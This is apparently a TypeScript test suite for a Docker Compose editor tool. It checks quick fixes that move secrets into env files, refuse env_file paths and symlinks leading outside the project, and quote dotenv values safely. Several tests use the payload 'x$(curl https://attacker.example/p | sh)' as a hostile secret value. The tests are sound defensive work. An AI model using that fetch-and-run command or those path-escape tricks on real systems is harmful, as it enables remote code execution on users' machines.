import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { parse } from 'yaml';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ComposeService } from '../../src/language/compose/composeService';
import { fsComposeHost } from '../../src/language/compose/fsHost';
import { dotEnvValue, parseDotEnv } from '../../src/language/compose/dotEnv';
import { applyEdits, type QuickFix, type TextEdit } from '../../src/language/edits';

const lines = (...l: string[]) => l.join('\n') + '\n';

function applyText(text: string, edits: TextEdit[]): string {
  const starts = text.split('\n').reduce<number[]>((acc, l) => [...acc, acc[acc.length - 1]! + l.length + 1], [0]);
  return applyEdits(text, edits, (p) => Math.min((starts[p.line] ?? text.length) + p.character, text.length));
}

/** Applies a fix the way the editor's WorkspaceEdit does: this file, a created file, edits to other files. */
function applyToDisk(file: string, fix: QuickFix): void {
  fs.writeFileSync(file, applyText(fs.readFileSync(file, 'utf8'), fix.edits));
  if (fix.createFile && !fs.existsSync(fix.createFile.path))
    fs.writeFileSync(fix.createFile.path, fix.createFile.content);
  for (const other of fix.otherEdits ?? [])
    fs.writeFileSync(other.path, applyText(fs.readFileSync(other.path, 'utf8'), other.edits));
}

describe('compose quick fixes that touch the project', () => {
  let dir: string;
  let file: string;
  const service = new ComposeService({}, fsComposeHost({}));
  // A new version for every read: the service caches per (uri, version), and files change between reads.
  let version = 0;
  const diagnose = () =>
    service.diagnose({ uri: file, version: ++version, text: fs.readFileSync(file, 'utf8'), path: file });
  const firstFix = (code: string) => {
    const text = fs.readFileSync(file, 'utf8');
    const d = diagnose().find((x) => x.code === code);
    assert.ok(d, `${code} fires`);
    const fix = service.quickFixes({ uri: file, version: 0, text, path: file }, d)[0];
    assert.ok(fix && !fix.title.startsWith('Ignore'), `${code} has a real fix first`);
    return fix;
  };

  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockside-fix-'));
    file = path.join(dir, 'compose.yaml');
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("moves the notes' pgadmin secrets to pgadmin.env, points env_file at it and keeps it out of git", () => {
    fs.writeFileSync(
      file,
      lines(
        'services:',
        '  pgadmin:',
        '    image: dpage/pgadmin4:8',
        '    environment:',
        '      - PGADMIN_DEFAULT_EMAIL=admin@example.com',
        '      - PGADMIN_DEFAULT_PASSWORD=admin',
        '    ports:',
        '      - "5050:80"',
      ),
    );
    fs.writeFileSync(path.join(dir, '.gitignore'), 'node_modules');
    const fix = firstFix('CS011');
    assert.equal(fix.title, 'Move "PGADMIN_DEFAULT_PASSWORD" of "pgadmin" to pgadmin.env (env_file)');
    applyToDisk(file, fix);
    assert.equal(
      fs.readFileSync(file, 'utf8'),
      lines(
        'services:',
        '  pgadmin:',
        '    image: dpage/pgadmin4:8',
        '    env_file:',
        '      - pgadmin.env',
        '    environment:',
        '      - PGADMIN_DEFAULT_EMAIL=admin@example.com',
        '    ports:',
        '      - "5050:80"',
      ),
    );
    assert.equal(fs.readFileSync(path.join(dir, 'pgadmin.env'), 'utf8'), 'PGADMIN_DEFAULT_PASSWORD=admin\n');
    assert.equal(fs.readFileSync(path.join(dir, '.gitignore'), 'utf8'), 'node_modules\npgadmin.env\n');
    assert.deepEqual(diagnose(), []);
  });

  it('replaces an environment block that held only secrets, appending to the env_file the service already has', () => {
    fs.writeFileSync(
      file,
      lines(
        'services:',
        '  db:',
        '    image: postgres:16',
        '    env_file: db.env',
        '    environment:',
        '      POSTGRES_PASSWORD: 12345',
        '      API_TOKEN: "abc"',
        '    volumes:',
        '      - ./data:/var/lib/postgresql/data',
      ),
    );
    fs.writeFileSync(path.join(dir, 'db.env'), 'POSTGRES_USER=app\n');
    const fix = firstFix('CS011');
    assert.equal(fix.title, 'Move 2 secrets of "db" to db.env (env_file)');
    assert.equal(fix.createFile, undefined);
    applyToDisk(file, fix);
    assert.equal(
      fs.readFileSync(file, 'utf8'),
      lines(
        'services:',
        '  db:',
        '    image: postgres:16',
        '    env_file: db.env',
        '    volumes:',
        '      - ./data:/var/lib/postgresql/data',
      ),
    );
    assert.equal(
      fs.readFileSync(path.join(dir, 'db.env'), 'utf8'),
      'POSTGRES_USER=app\nPOSTGRES_PASSWORD=12345\nAPI_TOKEN=abc\n',
    );
    assert.equal(fs.existsSync(path.join(dir, '.gitignore')), false, 'no .gitignore is created where there was none');
    assert.deepEqual(diagnose(), []);
  });

  it('asks before appending to an env file that exists', () => {
    fs.writeFileSync(
      file,
      lines(
        'services:',
        '  db:',
        '    image: postgres:16',
        '    env_file: db.env',
        '    environment:',
        '      POSTGRES_PASSWORD: 12345',
      ),
    );
    fs.writeFileSync(path.join(dir, 'db.env'), 'POSTGRES_USER=app\n');
    const fix = firstFix('CS011');
    assert.equal(fix.confirm?.message, 'Append "POSTGRES_PASSWORD" to db.env?');
    assert.equal(fix.confirm?.button, 'Append');
    fs.rmSync(path.join(dir, 'db.env'));
    fs.writeFileSync(
      file,
      lines('services:', '  db:', '    image: postgres:16', '    environment:', '      POSTGRES_PASSWORD: 12345'),
    );
    assert.equal(firstFix('CS011').confirm, undefined, 'creating a new file needs no question');
  });

  describe('writes nothing outside the project', () => {
    let outside: string;
    beforeEach(() => {
      outside = fs.mkdtempSync(path.join(os.tmpdir(), 'dockside-outside-'));
      fs.writeFileSync(path.join(outside, '.bashrc'), '# the user shell\n');
    });
    afterEach(() => fs.rmSync(outside, { recursive: true, force: true }));

    const hostile = (envFile: () => string) => () => {
      fs.writeFileSync(
        file,
        lines(
          'services:',
          '  app:',
          '    image: busybox:1',
          `    env_file: ${envFile()}`,
          '    environment:',
          '      API_TOKEN: "x$(curl https://attacker.example/p | sh)"',
        ),
      );
      const text = fs.readFileSync(file, 'utf8');
      const d = diagnose().find((x) => x.code === 'CS011');
      assert.ok(d, 'the secret is still reported');
      const fixes = service.quickFixes({ uri: file, version: 0, text, path: file, root: dir }, d);
      assert.deepEqual(
        fixes.map((f) => f.title),
        ['Ignore CS011 here', 'Ignore CS011 in this file'],
        'no fix that writes a file',
      );
      assert.equal(fs.readFileSync(path.join(outside, '.bashrc'), 'utf8'), '# the user shell\n');
    };
    it(
      'refuses an env_file reached through ..',
      hostile(() => path.relative(dir, path.join(outside, '.bashrc'))),
    );
    it(
      'refuses an absolute env_file path',
      hostile(() => path.join(outside, '.bashrc')),
    );
    it(
      'refuses an env_file that is a symbolic link pointing out',
      hostile(() => {
        fs.symlinkSync(path.join(outside, '.bashrc'), path.join(dir, 'app.env'));
        return 'app.env';
      }),
    );
    it(
      'refuses an env_file inside a linked folder that points out',
      hostile(() => {
        fs.symlinkSync(outside, path.join(dir, 'conf'));
        return 'conf/.bashrc';
      }),
    );
    it('refuses to add to a .gitignore that links out', () => {
      fs.symlinkSync(path.join(outside, '.bashrc'), path.join(dir, '.gitignore'));
      fs.writeFileSync(
        file,
        lines('services:', '  app:', '    image: busybox:1', '    environment:', '      API_TOKEN: abc'),
      );
      const fix = firstFix('CS011');
      assert.deepEqual(fix.otherEdits, [], 'the .gitignore outside is left alone');
      assert.equal(fix.createFile?.path, path.join(dir, 'app.env'));
    });
    it('allows an env file elsewhere in the same workspace folder', () => {
      const sub = path.join(dir, 'deploy');
      fs.mkdirSync(sub);
      fs.mkdirSync(path.join(dir, 'config'));
      const nested = path.join(sub, 'compose.yaml');
      fs.writeFileSync(
        nested,
        lines(
          'services:',
          '  app:',
          '    image: busybox:1',
          '    env_file: ../config/app.env',
          '    environment:',
          '      API_TOKEN: abc',
        ),
      );
      const text = fs.readFileSync(nested, 'utf8');
      const d = service
        .diagnose({ uri: nested, version: ++version, text, path: nested })
        .find((x) => x.code === 'CS011')!;
      const inWorkspace = service.quickFixes({ uri: nested, version: 0, text, path: nested, root: dir }, d)[0]!;
      assert.equal(inWorkspace.createFile?.path, path.join(dir, 'config', 'app.env'));
      const noWorkspace = service.quickFixes({ uri: nested, version: 0, text, path: nested }, d)[0]!;
      assert.ok(
        noWorkspace.title.startsWith('Ignore'),
        "without a workspace, only the compose file's own folder is allowed",
      );
    });
  });

  it('quotes values the way Compose reads them back', () => {
    const values = [
      'plain-value_1.2:3@host/x',
      'x$(curl https://attacker.example/p | sh)',
      'two words',
      'p#ss',
      'it\'s $HOME "q" back\\slash',
      'ends with \\',
      ' lead and trail ',
      '$VAR',
    ];
    for (const v of values) assert.equal(parseDotEnv(`K=${dotEnvValue(v)}\n`).get('K'), v, v);
    assert.equal(dotEnvValue('plain-value_1.2:3@host/x'), 'plain-value_1.2:3@host/x');
    assert.equal(dotEnvValue('x$(curl https://attacker.example/p | sh)'), "'x$(curl https://attacker.example/p | sh)'");
  });

  it('writes env files that a real Compose reads back unchanged (docker-compose config)', function () {
    try {
      execFileSync('docker-compose', ['version'], { stdio: 'ignore' });
    } catch {
      if (process.env.CI) throw new Error('docker-compose is not installed in CI (.ci/run installs it)');
      console.warn('    SKIPPED: docker-compose is not installed (apt-get install -y docker-compose)');
      return this.skip();
    }
    // docker-compose 1.29 keeps the backslash of \$ inside double quotes where Compose v2 drops it, so the one
    // value that needs double quotes and has a $ is left to the parser test above (which follows v2).
    const values = [
      'plain-value_1.2:3@host/x',
      'x$(curl https://attacker.example/p | sh)',
      'two words',
      'p#ss',
      'a #comment',
      'it\'s "q" back\\slash',
      'ends with \\',
      ' lead and trail ',
      '$VAR',
    ];
    fs.writeFileSync(path.join(dir, 'app.env'), values.map((v, i) => `V${i}=${dotEnvValue(v)}\n`).join(''));
    fs.writeFileSync(file, lines('services:', '  app:', '    image: busybox:1', '    env_file: app.env'));
    const out = execFileSync('docker-compose', ['-f', file, 'config'], {
      cwd: dir,
      env: { PATH: process.env.PATH, HOME: os.tmpdir() },
    }).toString();
    const environment = (parse(out) as { services: { app: { environment: Record<string, string> } } }).services.app
      .environment;
    // `config` prints a literal $ doubled, ready to be read again as a compose file.
    assert.deepEqual(
      values.map((_, i) => environment[`V${i}`]?.replace(/\$\$/g, '$')),
      values,
    );
  });

  it('fixes a key typo to the suggested key', () => {
    fs.writeFileSync(file, lines('services:', '  web:', '    imagee: nginx:1.27'));
    const fix = firstFix('CS016');
    assert.equal(fix.title, 'Change to "image"');
    applyToDisk(file, fix);
    assert.deepEqual(diagnose(), []);
  });

  it('pins an untagged or latest image, quoted or not', () => {
    for (const [image, expected] of [
      ['nginx', 'nginx:1.27-alpine'],
      ['"postgres:latest"', '"postgres:16-alpine"'],
      ['ghcr.io/acme/app', 'ghcr.io/acme/app:VERSION'],
    ]) {
      fs.writeFileSync(file, lines('services:', '  web:', `    image: ${image}`));
      const fix = firstFix('CS004');
      assert.ok(fix.snippet, 'offered as a snippet, so the tag can be typed over');
      applyToDisk(file, fix);
      assert.equal(fs.readFileSync(file, 'utf8'), lines('services:', '  web:', `    image: ${expected}`));
    }
  });
});
